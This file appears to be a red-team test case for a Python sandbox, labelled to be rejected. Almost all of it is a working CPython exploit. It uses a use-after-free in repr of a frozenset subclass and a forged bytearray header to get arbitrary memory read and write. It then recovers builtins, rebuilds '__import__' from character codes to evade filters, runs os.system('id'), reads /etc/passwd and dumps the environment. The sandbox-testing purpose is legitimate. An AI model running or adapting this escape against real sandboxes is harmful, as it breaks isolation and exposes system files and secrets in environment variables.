# expect: reject memory
# line: 20
# why: round 98 (red team): a set's C repr iterates a frozenset subclass through its __iter__, here bound in the class body to a module-level def (`__iter__ = walk`), which emptied the list whose repr held the slice (id, /etc/passwd, os.environ, no import); the set-subclass seed asked defs only
L = []
G = []
KEEP = []
HDR = []


def q(v):
    return v.to_bytes(8, "little")


class Box:
    __slots__ = ("__dict__", "a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n")


def walk(self):
    if L:
        L.clear()
        buf = bytearray(159)
        buf[0:len(HDR[0])] = HDR[0]
        KEEP.append(buf)
    else:
        G.append(self)
    return iter([])


class Bag(frozenset):
    __iter__ = walk


victim = Box()
base = id(victim) - 32
HDR.append(
    q(0) + q(0) + q(0) + q(0)
    + q(1 << 40) + q(id(Bag)) + q(1) + q(1)          # a Bag at 32: fill=1, used=1
)
start = Bag({1})
L.append(slice(start, victim))
victim = None
try:
    text = repr(L)
except Exception:
    pass
KEEP[0][40:88] = q(id(bytearray)) + q(1 << 62) + q((1 << 62) + 1) + q(0) + q(0) + q(0)
mem = G[0]


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


def wr(addr, v):
    mem[addr:addr + 8] = q(v)


mod = rd(id(print) + 24)
bdict = rd(mod + 16)
holder = [None]
items = rd(id(holder) + 24)
wr(bdict, rd(bdict) + 1)
wr(items, bdict)
table = holder[0]
imp = table["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
